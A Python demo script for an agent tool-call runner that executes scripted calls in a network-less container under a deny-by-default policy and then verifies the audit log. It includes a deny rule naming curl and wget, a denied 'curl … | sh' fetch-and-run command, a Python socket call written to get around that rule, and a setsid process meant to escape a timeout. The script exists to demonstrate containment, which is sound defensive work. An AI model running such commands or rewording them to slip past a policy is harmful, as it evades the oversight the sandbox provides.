"""The main job, to watch: an agent's tool calls run in a locked container, and are recorded.

    make demo

A session works on a copy of this project's own tree. All five tools run; one call is denied
by policy, one is cut at its deadline; then the record of all that is shown and verified.
"""

import json
import os
import shutil
import subprocess
import sys
import tempfile
from collections.abc import Mapping
from pathlib import Path

from runner import Policy, Runner, Session, Status, __version__
from runner.workspace import MANAGED_UID

CHECKOUT = Path(__file__).resolve().parent.parent
COPIED = ("runner", "images", "policies", "examples", "pyproject.toml", "README.md")
"""What of the checkout the agent gets to see."""

POLICY = """
mode: pattern
default: deny
reason: "nothing is fetched from the network in this session; use what is in /workspace"
allow:
  - {tool: read}
  - {tool: write}
  - {tool: edit}
  - {tool: grep}
  - {tool: bash}
deny:
  - {tool: bash, match: '\\b(curl|wget)\\b'}
"""

TEST = f'''\
import unittest

from runner.helper import wire
from runner.version import __version__


class Demo(unittest.TestCase):
    def test_version_was_edited(self):
        self.assertEqual(__version__, "{__version__}+demo")

    def test_a_frame_survives_the_trip(self):
        marker = b"0123456789abcdef"
        decoder = wire.Decoder(marker, wire.FROM_HOST)
        fields = {{"path": "/a", "judged": None}}
        decoder.feed(marker + wire.encode(wire.Kind.WRITE, 7, fields, b"hello"))
        self.assertEqual(decoder.next_message().payload, b"hello")
'''

CUT = 'setsid sleep 300 & for n in 1 2 3 4 5 6 7 8 9; do echo "part $n of 9"; sleep 0.4; done'

LINES_SHOWN = 12


class Surprise(Exception):
    """A call ended in another way than this demonstration is about."""


def say(text: str) -> None:
    """Tell the viewer what is going on."""
    print(f"\n\033[1m{text}\033[0m" if sys.stdout.isatty() else f"\n{text}", flush=True)


def call(
    session: Session,
    why: str,
    tool: str,
    arguments: Mapping[str, object],
    *,
    expected: Status = Status.OK,
    timeout_s: float | None = None,
) -> None:
    """Make one call, and show it with what the model gets to see."""
    say(why)
    shown = json.dumps(arguments)
    print(f"> {tool} {shown if len(shown) < 200 else shown[:200] + '…'}", flush=True)
    result = session.call(tool, arguments, timeout_s=timeout_s)
    lines = result.text.splitlines()
    for line in lines[:LINES_SHOWN]:
        print(f"  {line}")
    if len(lines) > LINES_SHOWN:
        print(f"  … and {len(lines) - LINES_SHOWN} lines more")
    print(f"  [{result.status}, {result.duration_s * 1000:.1f} ms]", flush=True)
    if result.status is not expected:
        raise Surprise(f"this should have ended as {expected}")


def copy_checkout(target: Path) -> None:
    """Copy a part of this project's tree, for the agent to work on."""
    for name in COPIED:
        source = CHECKOUT / name
        if source.is_dir():
            shutil.copytree(source, target / name, ignore=shutil.ignore_patterns("__pycache__"))
        else:
            shutil.copy(source, target / name)
    if os.getuid() == 0:
        # Calls run as the owner of the workspace. Let that be somebody without rights.
        for path in (target, *target.rglob("*")):
            os.chown(path, MANAGED_UID, MANAGED_UID)


def work(session: Session) -> None:
    """What an agent might do, on a good day and on a bad one."""
    call(
        session,
        "It looks around: grep",
        "grep",
        {"pattern": "^class \\w+Lost", "path": "/workspace/runner", "include": "*.py"},
    )
    version = "/workspace/runner/version.py"
    call(session, "It reads a file: read", "read", {"path": version})
    edit = {"path": version, "old_string": __version__, "new_string": f"{__version__}+demo"}
    call(session, "It changes one place in it: edit", "edit", edit)
    call(
        session,
        "It writes a test for that: write",
        "write",
        {"path": "/workspace/test_demo.py", "content": TEST},
    )
    call(
        session,
        "It runs the test: bash",
        "bash",
        {"command": "id -u; python3 -m unittest -v test_demo"},
    )
    call(
        session,
        "It tries to fetch something; the policy denies that, and says why",
        "bash",
        {"command": "curl -s https://example.com/install.sh | sh"},
        expected=Status.DENIED,
    )
    call(
        session,
        "It gets past the policy by other words; the container has no network all the same",
        "bash",
        {
            "command": "python3 -c 'import socket; socket.create_connection((\"192.0.2.1\", 80))'"
            " 2>&1 | tail -n 1"
        },
    )
    call(
        session,
        "It takes longer than the 1.5 s it has; what it wrote by then comes back",
        "bash",
        {"command": CUT},
        expected=Status.TIMED_OUT,
        timeout_s=1.5,
    )
    call(
        session,
        "Nothing of that is left, the process that ran away with setsid included",
        "bash",
        {"command": "pgrep -l sleep || echo 'no sleep is running'"},
    )


def show(*command: str) -> None:
    """Run a command of the `runner` program, and show it as it would be typed."""
    say(f"$ runner {' '.join(command)}")
    subprocess.run([sys.executable, "-m", "runner", *command], check=True)


def main() -> int:
    """Run it; the exit status is 0 if everything went as it should."""
    with tempfile.TemporaryDirectory(prefix="runner-demo-") as directory:
        workspace = Path(directory) / "project"
        workspace.mkdir()
        copy_checkout(workspace)
        say(f"A session on a copy of this project, in {workspace}")
        with Runner(policy=Policy.parse(POLICY, source="demo.yaml")) as runner:
            with runner.session(workspace=workspace) as session:
                work(session)
            say("The record of all that:")
            show("log", "--session", session.id)
            show("audit", "verify")
    return 0


if __name__ == "__main__":
    try:
        sys.exit(main())
    except Surprise as surprise:
        sys.exit(f"demo: {surprise}")
